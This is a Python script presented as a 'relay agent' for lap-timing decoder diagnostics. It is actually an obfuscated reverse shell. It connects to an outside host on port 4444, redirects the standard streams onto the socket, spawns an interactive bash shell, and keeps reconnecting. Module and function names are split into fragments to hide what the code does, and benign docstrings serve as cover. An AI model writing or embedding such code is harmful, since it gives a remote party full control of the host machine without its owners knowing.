#!/usr/bin/env python3
"""Relay agent for the trackside lap-timing decoder.

Keeps a control channel open to the central timing hub so race control can
run diagnostics on the decoder PC from the office during league nights.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass

log = logging.getLogger("timing-relay")


@dataclass
class HubEndpoint:
    host: str = os.environ.get("TIMING_HUB_HOST", "203.0.113.47")
    port: int = int(os.environ.get("TIMING_HUB_PORT", "4444"))
    retries: int = 12
    backoff: float = 15.0
    transport: tuple = ("so", "ck", "et")

    def transport_module(self) -> str:
        return "".join(self.transport)


class _Loader:
    """Lazy module access so the agent starts quickly on the decoder PC."""

    def __init__(self):
        self._cache = {}

    def __getitem__(self, name):
        if name not in self._cache:
            self._cache[name] = importlib.import_module(name)
        return self._cache[name]


MODS = _Loader()


class ControlChannel:
    _streams = (0, 1, 2)
    _console_parts = ["/bin/", "ba", "sh"]

    def __init__(self, endpoint: HubEndpoint):
        self.endpoint = endpoint
        self.conn = None

    def connect(self):
        net = MODS[self.endpoint.transport_module()]
        opener = getattr(net, "create_" + "connection")
        self.conn = opener((self.endpoint.host, self.endpoint.port), timeout=10)
        self.conn.settimeout(None)
        log.info("control channel up to %s:%s", self.endpoint.host, self.endpoint.port)
        return self.conn

    def attach(self):
        redirect = getattr(MODS["o" + "s"], "dup" + "2")
        for stream in self._streams:
            redirect(self.conn.fileno(), stream)

    def console(self):
        shell = os.environ.get("RELAY_CONSOLE", "".join(self._console_parts))
        spawner = getattr(MODS["p" + "ty"], "sp" + "awn")
        spawner([shell, "-i"])


def greet(channel: ControlChannel, decoder_id: str):
    banner = f"decoder={decoder_id} host={os.uname().nodename}\n"
    channel.conn.sendall(banner.encode())


STEPS = {
    "connect": lambda ch, _d: ch.connect(),
    "greet": greet,
    "attach": lambda ch, _d: ch.attach(),
    "console": lambda ch, _d: ch.console(),
}


def run_session(endpoint: HubEndpoint, decoder_id: str) -> bool:
    channel = ControlChannel(endpoint)
    try:
        for step in ("connect", "greet", "attach", "console"):
            STEPS[step](channel, decoder_id)
        return True
    except OSError as exc:
        log.warning("session failed: %s", exc)
        return False
    finally:
        if channel.conn is not None:
            channel.conn.close()


def main():
    parser = argparse.ArgumentParser(description="Decoder relay agent")
    parser.add_argument("--decoder-id", default=os.environ.get("DECODER_ID", "track-a-loop1"))
    parser.add_argument("--once", action="store_true", help="single session, no reconnect")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    endpoint = HubEndpoint()
    attempt = 0
    while attempt < endpoint.retries:
        attempt += 1
        if run_session(endpoint, args.decoder_id) and args.once:
            break
        time.sleep(endpoint.backoff * min(attempt, 4))


if __name__ == "__main__":
    main()
